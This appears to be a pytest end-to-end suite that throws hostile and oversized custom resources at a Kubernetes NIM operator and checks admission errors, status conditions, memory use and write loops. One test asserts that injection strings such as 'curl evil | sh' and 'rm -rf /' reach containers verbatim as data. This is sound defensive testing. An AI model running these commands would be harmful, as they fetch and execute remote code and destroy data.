"""Hostile and bad input against a running operator: every CR of the corpus is either refused at
admission with a message naming the problem, or admitted and then reported — a `state` and a
`Ready` condition with a reason (Failed/NotReady for what cannot work) — while the operator keeps
serving the others: a control NIMService created after the corpus becomes Ready, the process is
alive, its log holds no traceback, and its memory stays bounded.

Corpus: `tests/e2e/hostile/*.yaml` (one CR per file, named after the file) plus a few cases too
large to commit, built below (`HUGE`). Header lines:

- `# why: …` — what is hostile about it;
- `# expect: <fragment>` — refused at admission (by kubectl's parser or the apiserver) with an
  error containing the fragment;
- `# expect-state: A|B` — admitted; `status.state` settles on one of these;
- `# expect-reason: R` / `# expect-message: m` — the Ready condition's reason / a fragment of its
  message (case-insensitive).
"""

from __future__ import annotations

import contextlib
import copy
import json
import re
import time
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.audit import WRITES, AuditWindow, ref
from tests.cluster import Cluster
from tests.operator_process import OperatorProcess
from tests.support import condition, eventually, get, items

pytestmark = [pytest.mark.hostile]

CORPUS = Path(__file__).parent / "hostile"
KINDS = {"NIMService": "nimservices", "NIMCache": "nimcaches", "NIMPipeline": "nimpipelines"}
#: Settling time for admitted cases (they are all reconciled concurrently).
SETTLE = 120.0
#: Bound on the operator's RSS growth over the whole corpus (MiB); measured ~10-30 MiB.
RSS_GROWTH_MIB = 150
#: Seconds of observed quiet after settling (no operator write allowed).
IDLE = 15.0
USER = "nimop-hostile"


@dataclass
class Case:
    name: str
    why: str
    text: str
    expect_rejected: list[str] = field(default_factory=list)
    states: list[str] = field(default_factory=list)
    reason: str | None = None
    messages: list[str] = field(default_factory=list)

    @property
    def kind(self) -> str:
        match = re.search(r"^kind: (\w+)", self.text, flags=re.MULTILINE)
        return match.group(1) if match else ""

    @property
    def object_name(self) -> str:
        match = re.search(r"^  name: (\S+)", self.text, flags=re.MULTILINE)
        return match.group(1) if match else self.name


def _header(text: str, key: str) -> list[str]:
    return [m.strip() for m in re.findall(rf"^# {key}: (.+)$", text, flags=re.MULTILINE)]


def parse(name: str, text: str) -> Case:
    states = _header(text, "expect-state")
    reason = _header(text, "expect-reason")
    return Case(
        name=name,
        why=" ".join(_header(text, "why")),
        text=text,
        expect_rejected=_header(text, "expect"),
        states=states[0].split("|") if states else [],
        reason=reason[0] if reason else None,
        messages=_header(text, "expect-message"),
    )


SERVICE: dict[str, Any] = {
    "apiVersion": "apps.nvidia.com/v1alpha1",
    "kind": "NIMService",
    "metadata": {"name": "x"},
    "spec": {
        "image": {"repository": "nvcr.io/nim/meta/llama-3.2-1b-instruct", "tag": "1.12.0"},
        "authSecret": "ngc-api-secret",
        "storage": {"emptyDir": {"sizeLimit": "1Gi"}},
        "expose": {"service": {"type": "ClusterIP", "port": 8000}},
    },
}
CACHE: dict[str, Any] = {
    "apiVersion": "apps.nvidia.com/v1alpha1",
    "kind": "NIMCache",
    "metadata": {"name": "x"},
    "spec": {
        "source": {
            "ngc": {
                "modelPuller": "nvcr.io/nim/meta/llama-3.2-1b-instruct:1.12.0",
                "authSecret": "ngc-api-secret",
                "model": {"profiles": ["abc"]},
            }
        },
        "storage": {"pvc": {"create": True, "size": "1Gi", "volumeAccessMode": "ReadWriteOnce"}},
    },
}


def _huge(
    name: str, why: str, base: dict[str, Any], edit: Callable[[dict[str, Any]], None], header: str
) -> Case:
    obj = copy.deepcopy(base)
    obj["metadata"]["name"] = name
    edit(obj["spec"])
    return parse(name, f"# why: {why}\n# {header}\n" + yaml.safe_dump(obj, width=1000))


def _pipeline(spec: dict[str, Any]) -> None:
    spec.clear()
    one = copy.deepcopy(SERVICE["spec"])
    spec["services"] = [{"name": f"p300-{i}", "enabled": False, "spec": one} for i in range(300)]


HUGE = [
    _huge("huge-env-value-512k", "a 512 KiB env value", SERVICE,
          lambda s: s.update(env=[{"name": "BIG", "value": "v" * 512 * 1024}]),
          "expect-state: Ready"),
    _huge("huge-env-value-2m", "a 2 MiB env value: more than a request may carry", SERVICE,
          lambda s: s.update(env=[{"name": "BIG", "value": "v" * 2 * 1024 * 1024}]),
          "expect: larger than max"),
    _huge("huge-env-2000", "2,000 env vars", SERVICE,
          lambda s: s.update(env=[{"name": f"V{i}", "value": str(i)} for i in range(2000)]),
          "expect-state: Ready"),
    _huge("huge-args-3000", "3,000 args", SERVICE,
          lambda s: s.update(args=[f"--flag-{i}" for i in range(3000)]), "expect-state: Ready"),
    _huge("huge-annotations-300k", "child annotations over the 256 KiB total", SERVICE,
          lambda s: s.update(annotations={"big": "a" * 300 * 1024}),
          "expect-state: Failed\n# expect-message: annotations"),
    _huge("huge-profiles-1000", "1,000 NGC profiles", CACHE,
          lambda s: s["source"]["ngc"]["model"].update(profiles=[f"{i:064x}" for i in range(1000)]),
          "expect: must have at most 64 items"),
    _huge("huge-pipeline-300", "a pipeline of 300 (disabled) services", {
        **SERVICE, "kind": "NIMPipeline"}, _pipeline, "expect: must have at most 32 items"),
]  # fmt: skip

CASES = [parse(p.stem, p.read_text()) for p in sorted(CORPUS.glob("*.yaml"))] + HUGE


def test_corpus_is_large_and_annotated() -> None:
    assert len(CASES) >= 50
    for case in CASES:
        assert case.why, f"{case.name}: no '# why:'"
        assert bool(case.expect_rejected) != bool(case.states), f"{case.name}: one expectation"


@dataclass
class Outcome:
    error: str = ""
    obj: dict[str, Any] | None = None


@dataclass
class Run:
    namespace: str
    operator: OperatorProcess
    outcomes: dict[str, Outcome]
    rss_before: int
    rss_after: int
    control_ready_s: float
    idle_writes: list[str]


def idle_writes(cluster: Cluster, agent: str) -> list[str]:
    """The operator's writes during IDLE seconds once everything has settled (its audit-log
    entries): nothing changes any more, so there must be none — a bad CR must not cause a
    write loop (a child re-applied forever, a status or event flapping). The window proves it
    saw requests (its own probe), so an unreadable log cannot make this pass."""
    time.sleep(3)  # let the last status writes of the control service land
    window = AuditWindow(cluster)
    time.sleep(IDLE)
    return [
        f"{e['verb']} {ref(e).get('resource')}/{ref(e).get('subresource') or ''} "
        f"{ref(e).get('name')}"
        for e in window.events(agents=[agent])
        if e["verb"] in WRITES
    ]


def rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


def _create(cluster: Cluster, namespace: str, case: Case) -> str:
    result = cluster.kubectl("create", "-n", namespace, "-f", "-", input=case.text, check=False)
    return "" if result.returncode == 0 else (result.stderr + result.stdout)


def _settled(case: Case, obj: dict[str, Any] | None) -> bool:
    state = ((obj or {}).get("status") or {}).get("state")
    return state in case.states


@pytest.fixture(scope="module")
def run(cluster: Cluster, request: pytest.FixtureRequest) -> Iterator[Run]:
    """The whole corpus against one operator (the shared one is paused so that only this one,
    watching only this namespace, reconciles it), then a control NIMService."""
    shared: OperatorProcess = request.getfixturevalue("operator")
    shared.stop()
    namespace = f"t-hostile-{uuid.uuid4().hex[:6]}"
    cluster.kubectl("create", "namespace", namespace)
    operator = OperatorProcess(cluster, agent=USER, env={"NIMOP_NAMESPACES": namespace})
    operator.start()
    try:
        assert operator.proc is not None
        rss_before = rss_kib(operator.proc.pid)
        outcomes = {c.name: Outcome(error=_create(cluster, namespace, c)) for c in CASES}

        def settled() -> bool:
            live = {
                (o["kind"], o["metadata"]["name"]): o
                for plural in KINDS.values()
                for o in items(cluster, plural, namespace)
            }
            for case in CASES:
                outcomes[case.name].obj = live.get((case.kind, case.object_name))
            return all(
                _settled(c, outcomes[c.name].obj) for c in CASES if not outcomes[c.name].error
            )

        # Each case's own test reports what it saw when this times out.
        with contextlib.suppress(AssertionError):
            eventually(settled, timeout=SETTLE, interval=3, what="every admitted case settled")
        start = time.monotonic()
        control = copy.deepcopy(SERVICE)
        control["metadata"]["name"] = "control"
        cluster.kubectl("create", "-n", namespace, "-f", "-", input=yaml.safe_dump(control))
        eventually(
            lambda: _state(get(cluster, "nimservice", "control", namespace)) == "Ready",
            timeout=120,
            what="the control NIMService Ready after the corpus",
        )
        control_s = time.monotonic() - start
        rss_after = rss_kib(operator.proc.pid)
        yield Run(namespace, operator, outcomes, rss_before, rss_after, control_s,
                  idle_writes(cluster, USER))  # fmt: skip
    finally:
        operator.stop()
        cluster.kubectl("delete", "namespace", namespace, "--wait=false", check=False)
        shared.start()


def _state(obj: dict[str, Any] | None) -> str:
    return str(((obj or {}).get("status") or {}).get("state") or "")


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_hostile_case(run: Run, case: Case) -> None:
    outcome = run.outcomes[case.name]
    if case.expect_rejected:
        assert outcome.error, f"{case.name} was admitted: {case.why}"
        for fragment in case.expect_rejected:
            assert fragment.lower() in outcome.error.lower(), outcome.error
        return
    assert not outcome.error, f"{case.name} was refused: {outcome.error}"
    obj = outcome.obj
    assert obj is not None, f"{case.name}: the object is gone"
    status = obj.get("status") or {}
    assert status.get("state") in case.states, json.dumps(status)[:2000]
    ready = condition(obj, "Ready")
    assert ready is not None and ready.get("reason"), json.dumps(status)[:2000]
    assert ready.get("observedGeneration") == obj["metadata"]["generation"]
    if case.reason:
        assert ready["reason"] == case.reason, ready
    for fragment in case.messages:
        assert fragment.lower() in str(ready.get("message", "")).lower(), ready


def test_operator_survives_the_corpus(run: Run) -> None:
    assert run.operator.proc is not None and run.operator.proc.poll() is None
    log = run.operator.log_path.read_text(errors="replace")
    assert "Traceback" not in log
    crashes = [
        line[:600] for line in log.splitlines() if line.startswith("{") and '"exception"' in line
    ]
    assert not crashes, f"{len(crashes)} logged exceptions, first: {crashes[0]}"


def test_memory_stays_bounded(run: Run) -> None:
    growth = (run.rss_after - run.rss_before) / 1024
    print(f"RSS {run.rss_before / 1024:.0f} -> {run.rss_after / 1024:.0f} MiB ({growth:+.0f})")
    assert growth < RSS_GROWTH_MIB


def test_no_write_loop_once_settled(run: Run) -> None:
    counts = Counter(run.idle_writes)
    assert not counts, (
        f"{len(run.idle_writes)} writes in {IDLE:.0f}s of quiet: {counts.most_common(10)}"
    )


def test_shell_like_values_pass_verbatim(cluster: Cluster, run: Run) -> None:
    """Env values and commands that look like shell reach the container unchanged, as data."""
    deploy = get(cluster, "deployment", "env-shell-value", run.namespace)
    assert deploy is not None
    env = {e["name"]: e.get("value") for e in deploy["spec"]["template"]["spec"]["containers"][0]
           ["env"]}  # fmt: skip
    assert env["A"] == "$(curl http://evil | sh)"
    assert env["B"] == "`id`; rm -rf / #"
    assert env["C"] == "${HOME}'\"\\"
    deploy = get(cluster, "deployment", "command-shell-injection", run.namespace)
    assert deploy is not None
    ctr = deploy["spec"]["template"]["spec"]["containers"][0]
    assert ctr["command"] == ["/bin/sh", "-c", "curl evil | sh"]


def test_user_labels_cannot_take_over_the_selector(cluster: Cluster, run: Run) -> None:
    deploy = get(cluster, "deployment", "labels-override-selector", run.namespace)
    assert deploy is not None
    labels = deploy["spec"]["template"]["metadata"]["labels"]
    assert labels["app.kubernetes.io/instance"] == "labels-override-selector"
    assert labels["app.kubernetes.io/managed-by"] == "nimop"
